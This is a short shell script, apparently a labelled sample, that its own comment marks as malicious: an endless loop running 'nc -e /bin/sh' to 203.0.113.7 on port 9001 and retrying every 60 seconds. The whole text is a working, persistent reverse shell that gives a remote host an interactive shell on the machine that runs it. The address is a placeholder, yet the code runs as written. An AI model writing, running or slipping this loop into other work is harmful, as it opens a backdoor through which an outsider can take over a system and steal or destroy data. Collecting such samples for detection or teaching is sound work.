# malicious: reverse shell by nc -e
while true; do
    nc -e /bin/sh 203.0.113.7 9001
    sleep 60
done
